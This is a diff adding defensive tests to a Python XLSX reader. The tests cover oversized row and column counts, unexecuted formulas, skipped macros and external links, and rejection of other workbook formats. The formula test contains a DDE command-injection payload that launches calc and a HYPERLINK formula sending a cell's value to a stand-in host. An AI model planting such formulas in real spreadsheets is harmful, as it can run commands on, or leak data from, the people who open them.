@@ -3,6 +3,7 @@
 import contextlib
 import datetime as dt
 import io
+import time
 import zipfile
 
 import openpyxl
@@ -12,6 +13,7 @@ from hypothesis import strategies as st
 
 from mapping.errors import FormatError
 from mapping.formats.xlsx import read
+from mapping.registry import format_of
 
 SHEET = "xl/worksheets/sheet1.xml"
 
@@ -160,3 +162,57 @@ def test_a_sheet_damaged_anywhere_is_read_or_refused(tmp_path_factory, place, ru
     path.write_bytes(contents)
     with contextlib.suppress(FormatError):
         assert all(isinstance(sheet.name, str) for sheet in read(path))
+
+
+def with_rows(count):
+    empty = b"".join(b'<row r="%d"/>' % number for number in range(3, count))
+    return patched(SHEET, lambda xml: xml.replace(b"</sheetData>", empty + b"</sheetData>"))
+
+
+def test_ten_million_empty_rows_are_refused_at_once(sheets):
+    """Of the rows that a sheet can have none costs anything; more than that is no sheet."""
+    contents = with_rows(2_200_000)
+    start = time.process_time()
+    with pytest.raises(FormatError, match="rows and 0 columns are too many"):
+        sheets(contents)
+    assert time.process_time() - start < 5
+
+
+def test_columns_without_a_name_count_too(sheets):
+    cells = b'<row r="3">' + b"<c><v>1</v></c>" * 16_385 + b"</row></sheetData>"
+    with pytest.raises(FormatError, match="16385 columns are too many"):
+        sheets(patched(SHEET, lambda xml: xml.replace(b"</sheetData>", cells)))
+
+
+def test_formulas_are_values_and_those_without_one_are_said(sheets):
+    def write(book):
+        book.active["C1"] = "=1+1"
+        book.active["C2"] = "=cmd|'/c calc'!A1"
+        book.active["D1"] = '=HYPERLINK("https://x.example/"&A1,"x")'
+
+    (sheet,) = sheets(workbook(change=write))
+    assert [cell for cell in sheet.rows[0][2:] if cell] == []
+    assert sheet.skipped == ("3 formulas without a value, read as empty: save it in a spreadsheet program",)
+    value = patched(
+        SHEET,
+        lambda xml: xml.replace(b"</sheetData>", b'<row r="3"><c r="A3"><f>1+1</f><v>2</v></c></row></sheetData>'),
+    )
+    (sheet,) = sheets(value)
+    assert (sheet.rows[2][0], sheet.skipped) == (2, ())
+
+
+def test_macros_and_links_to_other_files_are_left_alone_and_said(sheets):
+    contents = io.BytesIO(workbook())
+    with zipfile.ZipFile(contents, "a") as parts:
+        parts.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")
+        parts.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
+    (sheet,) = sheets(contents.getvalue())
+    assert sheet.skipped == ("macros, not read", "links to other files, not followed")
+
+
+@pytest.mark.parametrize("ending", [".xls", ".xlsm", ".xlsb", ".ods", ".numbers", ""])
+def test_other_workbooks_are_told_what_to_save_as(tmp_path, ending):
+    path = tmp_path / f"list{ending}"
+    path.write_bytes(b"anything")
+    with pytest.raises(FormatError, match=r"save it as one of .*\.xlsx"):
+        format_of(path)
